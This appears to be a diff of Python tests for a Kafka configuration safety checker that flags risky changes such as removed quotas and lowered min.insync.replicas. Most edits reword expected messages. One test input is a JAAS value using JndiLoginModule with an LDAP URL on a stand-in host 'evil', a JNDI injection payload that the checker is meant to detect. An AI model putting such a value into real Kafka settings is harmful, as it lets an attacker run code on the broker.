@@ -213,7 +213,7 @@ def test_a_value_that_nobody_may_see_counts(kafka):
     text = Secret("com.sun.security.auth.module.JndiLoginModule required user.provider.url='ldap://evil/';")
     [danger] = dangers.found(kafka, [secret], lambda reference: text)
     assert danger.code == "login"
-    assert "it has JndiLoginModule, by which a broker can be made to run code from elsewhere" in danger.message
+    assert "it has JndiLoginModule, which can make a broker run code from elsewhere" in danger.message
     assert "evil" not in danger.message
     [unseen] = dangers.found(kafka, [secret], nowhere)
     assert unseen.message.startswith("a value that is not shown is set or replaced: ")
@@ -256,7 +256,9 @@ def quota(entity: str, value: float | None, key: str = RATE) -> Callable[[kn.Sta
     return lambda stage: stage.add([Edit(DELETE if value is None else SET, whom, key, value and f"{value:.0f}")])
 
 
-TAKEN_AWAY = "1 MB/s for everyone is removed, with no other limit behind it: all others are unlimited"
+TAKEN_AWAY = (
+    "1 MB/s for everyone is removed, with no other limit behind it: clients without a closer quota are unlimited"
+)
 LIFTED = {
     "the default user's goes": ([quota("user=<default>", None)], [TAKEN_AWAY]),
     "another is behind it": ([quota("user=<default>", None), quota("client-id=<default>", 2e6)], []),
@@ -315,7 +317,7 @@ def test_nothing_is_sent_unconfirmed(kafka):
         "row 1, topic=t min.insync.replicas: 3 becomes 1: a write counts as acknowledged with fewer copies, and is "
         "lost with them"
     )
-    assert refused.value.hint == "Nothing was sent. allow=['min.insync.replicas'] lets it through."
+    assert refused.value.hint == "Nothing was sent. To apply it anyway: allow=['min.insync.replicas']."
     assert refused.value.code == "DANGEROUS"
     assert rows(refused.value.rows, "row", "key", "danger") == [(1, MIN_ISR, "durability")]
     assert not [call for call in kafka.alters if not call.validate_only]
@@ -325,8 +327,8 @@ def test_nothing_is_sent_unconfirmed(kafka):
 @pytest.mark.parametrize(
     ("allow", "says", "hint"),
     [
-        ("min.insync.replica", "is allowed, and no row of the plan has it", "Did you mean min.insync.replicas?"),
-        ("*", "is allowed, and no row of the plan has it", "Did you mean min.insync.replicas?"),
+        ("min.insync.replica", "is allowed, but no row of the plan has it", "Did you mean min.insync.replicas?"),
+        ("*", "is allowed, but no row of the plan has it", "Did you mean min.insync.replicas?"),
     ],
 )
 def test_an_allowance_of_another_key_is_a_typo(kafka, allow, says, hint):
